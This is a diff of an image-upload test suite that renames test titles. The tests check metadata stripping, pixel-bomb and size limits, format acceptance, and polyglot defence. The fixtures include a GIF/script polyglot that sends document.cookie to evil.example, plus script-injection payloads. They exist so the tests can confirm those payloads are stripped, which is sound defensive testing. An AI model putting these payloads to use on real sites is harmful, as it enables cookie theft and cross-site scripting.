@@ -27,7 +27,7 @@ function refusedAs(words: string) {
   return { ...refused, fields: [{ path: 'image', msg: expect.stringContaining(words) }] }
 }
 
-describe('what is kept of an upload', () => {
+describe('what is stored of an upload', () => {
   test('four WebP files, in proportion', async () => {
     expect(await sizes(await picture(2000, 1000).jpeg().toBuffer())).toEqual([
       'webp 160x80',
@@ -37,7 +37,7 @@ describe('what is kept of an upload', () => {
     ])
   })
 
-  test('a small picture is never enlarged: the wider files have its own size', async () => {
+  test('a small picture is never enlarged: the wider files keep its size', async () => {
     expect(await sizes(await picture(200, 100).png().toBuffer())).toEqual([
       'webp 160x80',
       'webp 200x100',
@@ -46,7 +46,7 @@ describe('what is kept of an upload', () => {
     ])
   })
 
-  test('a strip taller than WebP allows is fitted in', async () => {
+  test('a strip taller than WebP allows is scaled down', async () => {
     expect(await sizes(await picture(100, 20_000).png().toBuffer())).toEqual([
       'webp 3x640',
       'webp 7x1280',
@@ -55,11 +55,11 @@ describe('what is kept of an upload', () => {
     ])
   })
 
-  test.each(['jpeg', 'png', 'webp', 'gif', 'avif'] as const)('%s is taken', async (format) => {
+  test.each(['jpeg', 'png', 'webp', 'gif', 'avif'] as const)('%s is accepted', async (format) => {
     expect(await reencode(await picture(64, 48).toFormat(format).toBuffer())).toMatchObject({ width: 64, height: 48 })
   })
 
-  test('the first frame of a moving picture', async () => {
+  test('the first frame of an animation', async () => {
     const frames = await sharp(
       await Promise.all([90, 180, 270].map((hue) => picture(40, 30).modulate({ hue }).png().toBuffer())),
       { join: { animated: true } },
@@ -70,7 +70,7 @@ describe('what is kept of an upload', () => {
     expect(await reencode(frames)).toMatchObject({ width: 40, height: 30 })
   })
 
-  test('transparency stays, greys and CMYK become sRGB', async () => {
+  test('transparency stays; grayscale and CMYK become sRGB', async () => {
     const clear = sharp({ create: { width: 20, height: 20, channels: 4, background: { ...colour, alpha: 0.5 } } })
     expect(await sharp((await reencode(await clear.png().toBuffer())).files[640]).metadata()).toMatchObject({
       hasAlpha: true,
@@ -82,8 +82,8 @@ describe('what is kept of an upload', () => {
   })
 })
 
-describe('invariant 20: what an upload must not bring along', () => {
-  test('place, camera and profile are gone, and the picture stands upright', async () => {
+describe('invariant 20: what an upload must not contain', () => {
+  test('location, camera and profile are removed, and the picture is upright', async () => {
     const photo = await picture(300, 200)
       .withExif({
         IFD0: { Make: 'Spycam', Orientation: '6' },
@@ -102,7 +102,7 @@ describe('invariant 20: what an upload must not bring along', () => {
     }
   })
 
-  test('a GIF that is also a script comes out as pixels alone', async () => {
+  test('a GIF that is also a script is reduced to pixels', async () => {
     const script = '*/=1;fetch("//evil.example/"+document.cookie)/*'
     const polyglot = Buffer.concat([await picture(30, 30).gif().toBuffer(), Buffer.from(script)])
     const { files } = await reencode(polyglot)
@@ -113,13 +113,13 @@ describe('invariant 20: what an upload must not bring along', () => {
     await expect(reencode(Buffer.from('GIF89a/*ÿÿ*/=1;alert(document.cookie)//'))).rejects.toMatchObject(refused)
   })
 
-  test('a JPEG that carries HTML and a PDF comes out as pixels alone', async () => {
+  test('a JPEG with HTML and a PDF is reduced to pixels', async () => {
     const html = '<script>alert(1)</script>%PDF-1.7'
     const { files } = await reencode(Buffer.concat([await picture(30, 30).jpeg().toBuffer(), Buffer.from(html)]))
     for (const kept of mediaWidths) expect(Buffer.from(files[kept]).includes('script')).toBe(false)
   })
 
-  test('of a stranger no more than 40 megapixels are unpacked, of staff 100', async () => {
+  test('at most 40 megapixels are decoded for customers, 100 for staff', async () => {
     const [fifty, many] = [flatPng(8000, 6250), flatPng(10_000, 10_001)]
     await expect(reencode(fifty)).rejects.toMatchObject(
       refusedAs('The picture has 50 megapixels, and the shop takes 40'),
@@ -129,7 +129,7 @@ describe('invariant 20: what an upload must not bring along', () => {
     await expect(reencode(many, 100e6)).rejects.toMatchObject(refusedAs(limit))
   })
 
-  test('a pixel bomb is refused without being unpacked', async () => {
+  test('a pixel bomb is refused without decoding', async () => {
     const bomb = flatPng(30_000, 30_000)
     expect(bomb.byteLength).toBeLessThan(200_000)
     const before = process.memoryUsage().rss
@@ -149,7 +149,7 @@ describe('invariant 20: what an upload must not bring along', () => {
     await expect(reencode(Buffer.from(text))).rejects.toMatchObject(refused)
   })
 
-  test('TIFF is refused, and HEIC under each of its brands, with what to do', async () => {
+  test('TIFF and every HEIC brand are refused with advice', async () => {
     const tiff = await picture(20, 20).tiff().toBuffer()
     await expect(reencode(tiff)).rejects.toMatchObject(refusedAs('save it as JPEG, PNG, WebP, GIF or AVIF'))
     for (const brands of ['heic\0\0\0\0mif1heic', 'mif1\0\0\0\0mif1heic', 'heix\0\0\0\0mif1heix']) {
@@ -158,7 +158,7 @@ describe('invariant 20: what an upload must not bring along', () => {
     }
   })
 
-  test('nothing is refused; a signature alone and a cut-off picture are said to be damaged', async () => {
+  test('an empty file is refused; a bare signature and a truncated picture are reported as damaged', async () => {
     await expect(reencode(Buffer.alloc(0))).rejects.toMatchObject(refused)
     const whole = await noisy().jpeg().toBuffer()
     const progressive = await noisy().jpeg({ progressive: true }).toBuffer()
@@ -174,14 +174,14 @@ describe('invariant 20: what an upload must not bring along', () => {
   })
 })
 
-describe('what some programs write otherwise', () => {
-  test.each(['mif1', 'miaf'])('an AVIF of major brand %s is taken', async (brand) => {
+describe('what some programs write differently', () => {
+  test.each(['mif1', 'miaf'])('an AVIF of major brand %s is accepted', async (brand) => {
     const avif = await noisy().avif().toBuffer()
     avif.write(brand, 8, 'latin1')
     expect(await reencode(avif)).toMatchObject({ width: 400, height: 400 })
   })
 
-  test.each([false, true])('a JPEG without its end marker is taken (progressive: %s)', async (progressive) => {
+  test.each([false, true])('a JPEG without its end marker is accepted (progressive: %s)', async (progressive) => {
     const whole = await noisy().jpeg({ progressive }).toBuffer()
     expect(whole.subarray(-2).toString('hex')).toBe('ffd9')
     const { files } = await reencode(whole.subarray(0, -2))
